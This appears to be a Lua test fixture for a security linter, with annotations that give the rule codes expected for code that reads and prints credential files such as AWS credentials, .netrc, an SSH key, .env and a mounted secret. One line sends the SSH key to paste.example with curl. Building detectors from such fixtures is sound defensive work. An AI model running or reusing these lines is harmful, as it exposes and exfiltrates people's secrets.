-- Credentials files read and printed or sent (~/.aws/credentials, ~/.netrc, an SSH key, .env, a mounted secret): WL502 and WL503.
local home = os.getenv("HOME") or "/root" -- want WL201

local aws = io.open(home .. "/.aws/credentials", "r") -- want WL102
print(aws:read("*a")) -- want WL502 "credentials file ~/.aws/credentials"

for line in io.lines(home .. "/.netrc") do -- want WL102
  io.stderr:write(line, "\n") -- want WL502
end

io.input("/root/.ssh/id_ed25519") -- want WL102
local key = io.read("*a")
os.execute("curl -d '" .. key .. "' https://paste.example") -- want WL103 WL503 "credentials file" WL504

local env = io.open(".env") -- want WL102
for kv in env:lines() do print(kv) end -- want WL502

local tok = io.open("/run/secrets/db_password") -- want WL102
print("db: " .. tok:read("*l")) -- want WL502
